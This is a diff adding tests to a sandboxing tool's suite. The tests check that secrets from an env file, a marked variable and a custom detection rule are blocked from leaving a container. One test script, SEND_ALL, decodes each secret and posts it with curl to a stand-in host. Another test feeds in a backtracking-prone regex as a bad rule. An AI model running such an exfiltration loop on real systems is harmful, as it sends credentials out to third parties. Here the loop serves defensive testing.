@@ -5,6 +5,8 @@ import json
 import os
 import time
 
+from operators import Session
+
 
 def files_with(needle, *roots):
     found = []
@@ -44,6 +46,68 @@ def test_the_token_is_nowhere_to_be_seen(world, operator, until):
     assert world.token not in out + err
     assert files_with(token, operator.home, os.path.join(world.dir, "data", "containers"), os.path.join(world.dir, "data", "image")) == []
     assert files_with(token, operator.workspace) == []
+
+
+RULE = "[acme-key]\nis: an Acme key\npattern: acme_[a-z0-9]{20}\nyes: acme_<base36 20>\nno: acme_1\n"
+
+
+def what_must_not_leave(operator):
+    """The bottle's keys, and the values: one of a file, one of a variable, and one that a rule of the operator's knows."""
+    values = {"prod.env:DB_PASSWORD": os.urandom(12).hex() + "Zq", "MARKED": os.urandom(12).hex() + "Zq", "acme-key": "acme_" + os.urandom(10).hex()}
+    for name, text in (("prod.env", "DB_PASSWORD=%s\nNODE_ENV=development\n" % values["prod.env:DB_PASSWORD"]), ("acme.rules", RULE)):
+        with open(os.path.join(operator.home, name), "w") as file:
+            file.write(text)
+        os.chmod(file.name, 0o600)
+    known = {"value": "${MARKED_HERE}", "secret": True}
+    encoded = " ".join(base64.b64encode(value.encode()).decode() for value in (*values.values(), "development"))
+    return values, {"scan": {"secrets": ["~/prod.env"], "rules": ["~/acme.rules"]}, "env": {"MARKED": known, "ENCODED": encoded}}
+
+
+SEND_ALL = "for e in $ENCODED; do curl -sS -m 20 -o /dev/null -w 'status %{http_code}\\n' -d \"x=$(echo $e | base64 -d)\" http://allowed.example.org/; done"
+
+
+def start_with(operator, script, *args, variables, **config):
+    since = time.time()
+    done = operator.bottle("start", "a", "--yes", "--headless", "-p", '[ "$BOTTLE_TEST" = inside ] || exit 99\n' + script, *args,
+                           config=operator.config(**config), env=variables, timeout=300)
+    return Session(done, operator, since)
+
+
+def check_nothing_left(session, values):
+    assert session.out.count("status 403") == 3 and session.out.count("status 200") == 1, session.explain()
+    audit = session.audit()
+    assert {line.get("secret") or line.get("rule") for line in audit if line.get("code") == "secret"} == set(values), audit
+    assert not any(value in str(audit) + session.out + session.err for value in values.values())
+
+
+def test_what_must_not_leave_does_not(world, operator):
+    values, config = what_must_not_leave(operator)
+    env = {"MARKED_HERE": values["MARKED"]}
+    session = start_with(operator, SEND_ALL, variables=env, **config)
+    check_nothing_left(session, values)
+    value = values["prod.env:DB_PASSWORD"].encode()
+    places = [operator.home, os.path.join(world.dir, "data", "containers"), os.path.join(world.dir, "data", "volumes")]
+    assert files_with(value, *places) == [os.path.join(operator.home, "prod.env")]
+    shown = operator.bottle("start", "a", "--dry-run", config=operator.config(**config), env=env)
+    assert "for the values of" in shown.stdout + shown.stderr and "MARKED (from MARKED_HERE) (must not leave)" in shown.stdout + shown.stderr
+
+
+def test_a_bad_rule_is_named_before_anything_is_made(world, operator):
+    path = os.path.join(operator.home, "acme.rules")
+    for text, said in (
+        (RULE.replace("pattern: ", "pattern: ("), "acme.rules: line 3: "),
+        (RULE + "yes: acme_2\n", "acme.rules: line 6: rule \"acme-key\" does not find its example"),
+        ("[a]\nis: b\n", "acme.rules: line 2: "),
+        (RULE.replace("acme_[a-z0-9]{20}", "(acme.{1,2000}[a-z]{1,2000}x){50,2000}"), "acme.rules: "),
+    ):
+        with open(path, "w") as file:
+            file.write(text)
+        session = start_with(operator, "true", variables={}, scan={"rules": [path]})
+        assert session.status == 125 and said in session.err, session.explain()
+        assert operator.sessions() == []
+    os.chmod(path, 0o666)
+    session = start_with(operator, "true", variables={}, scan={"rules": [path]})
+    assert session.status == 125 and "can be written to by everybody" in session.err, session.explain()
 
 
 def test_a_bound_secret_reaches_its_host_and_no_other(world, operator):
